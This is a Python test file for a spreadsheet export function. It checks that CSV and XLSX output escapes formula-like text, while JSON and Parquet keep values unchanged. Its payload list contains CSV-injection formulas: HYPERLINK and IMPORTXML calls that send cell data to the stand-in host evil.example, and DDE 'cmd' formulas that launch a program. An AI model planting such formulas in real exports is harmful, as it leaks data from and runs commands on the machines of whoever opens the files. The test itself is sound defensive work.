"""Exports for spreadsheets: no formulas from senders, and values shown unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import polars as pl
import pytest
from python_calamine import CalamineWorkbook

from lead_assets.core.table_formats import encode

# https://owasp.org/www-community/attacks/CSV_Injection, and payloads that are passed around in public lists of it.
FORMULAS = [
    '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "=",
    "-",
]
HARMLESS = ["Acme", "a=b", "jo@acme.example", "+14155550100", "-12.5", "O'Hara", "", "'quoted'", "1-2", "50% = half"]


def rows_of(data: bytes, file_format: str) -> list[list[str]]:
    if file_format == "csv":
        return list(csv.reader(io.StringIO(data.decode(), newline="")))[1:]
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    return [[str(cell) for cell in row] for row in sheet.to_python(skip_empty_area=False)][1:]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_text_goes_out_as_a_formula_unless_wanted_raw(file_format: str) -> None:
    frame = pl.DataFrame({"company": FORMULAS + HARMLESS, "n": range(len(FORMULAS + HARMLESS))})
    safe = [row[0] for row in rows_of(encode(frame, file_format), file_format)]
    raw = [row[0] for row in rows_of(encode(frame, file_format, raw=True), file_format)]

    assert safe == [f"'{text}" for text in FORMULAS] + HARMLESS
    assert raw == FORMULAS + HARMLESS


def test_other_formats_are_for_machines_and_stay_as_they_are() -> None:
    frame = pl.DataFrame({"company": FORMULAS})
    assert pl.read_json(io.BytesIO(encode(frame, "json")))["company"].to_list() == FORMULAS
    assert pl.read_parquet(io.BytesIO(encode(frame, "parquet")))["company"].to_list() == FORMULAS


def test_a_workbook_has_the_values_and_not_only_their_text() -> None:
    frame = pl.DataFrame(
        {
            "text": ["00123", "https://acme.example", None],
            "count": [3, -4, 9_007_199_254_740_993],
            "share": [0.5, float("nan"), None],
            "yes": [True, False, None],
            "at": [datetime(2026, 3, 4, 10, 30, tzinfo=UTC), None, None],
            "day": [date(2026, 3, 4), None, None],
            "tags": [["a", "b"], [], None],
            "long": ["x" * 40_000, "", ""],
        },
        schema_overrides={"at": pl.Datetime("us", "UTC")},
    )
    data = encode(frame, "xlsx")
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    header, first, second, third = book.get_sheet_by_index(0).to_python(skip_empty_area=False)

    assert header == frame.columns
    assert first[:7] == ["00123", 3.0, 0.5, True, datetime(2026, 3, 4, 10, 30), date(2026, 3, 4), '["a","b"]']
    assert (len(str(first[7])), str(first[7])[-1]) == (32_767, "…")
    assert second[:4] == ["https://acme.example", -4.0, "nan", False]
    assert third[:3] == ["", "9007199254740993", ""]
    assert data == encode(frame, "xlsx")


def test_more_rows_than_a_sheet_holds_are_refused_with_the_way_out() -> None:
    with pytest.raises(ValueError, match="csv or parquet"):
        encode(pl.DataFrame({"n": pl.int_range(1_048_576, eager=True)}), "xlsx")
